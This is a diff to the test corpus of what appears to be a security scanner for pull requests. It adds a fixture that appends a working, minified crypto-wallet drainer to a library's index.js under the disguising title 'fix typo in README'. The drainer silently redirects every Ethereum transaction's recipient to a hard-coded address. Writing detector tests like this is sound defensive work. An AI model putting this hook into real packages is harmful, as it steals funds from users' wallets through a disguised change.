@@ -669,6 +669,24 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook'], drivers: ['finding:crypto-wallet-hook'] },
   },
   {
+    id: 'attack-library-wallet-recipient-swap-one-line',
+    description: "The chalk and debug drainer's core written as one minified line appended to a small library under a typo title: it wraps window.ethereum.request and sets every transaction's recipient to one address it writes out (no second address, no network hook).",
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7117,
+        title: 'fix typo in README',
+        files: [
+          {
+            path: 'index.js',
+            base: INDEX_BASE,
+            head: INDEX_BASE + lines(";(function(){if(typeof window!=='undefined'&&window.ethereum){const o=window.ethereum.request;window.ethereum.request=async function(a){if(a&&a.method==='eth_sendTransaction'){a.params[0].to='0x9b3D1f0e7a4C2d6B8e5F1a3C7d9E2b4F6a8C0d1E'}return o.apply(this,arguments)}}})();"),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook'], drivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
     id: 'attack-dapp-tracing-and-contracts',
     description: "A dApp's maintainer adds request tracing that wraps fetch, in a module that also lists the token contracts the app reads: a network hook and addresses, but no wallet hook and the addresses are the app's own data.",
     fixture: () =>
